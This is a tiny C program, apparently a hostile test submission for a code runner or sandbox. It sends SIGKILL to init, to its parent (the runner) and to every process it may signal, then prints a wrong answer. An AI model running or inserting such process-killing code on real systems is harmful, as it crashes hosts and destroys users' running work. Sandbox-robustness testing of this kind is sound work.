/* Ends every process that it may end, the runner first, and answers wrongly. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    (void)kill(1, SIGKILL);
    (void)kill(getppid(), SIGKILL);
    (void)kill(-1, SIGKILL);
    puts("nobody left");
    return 0;
}
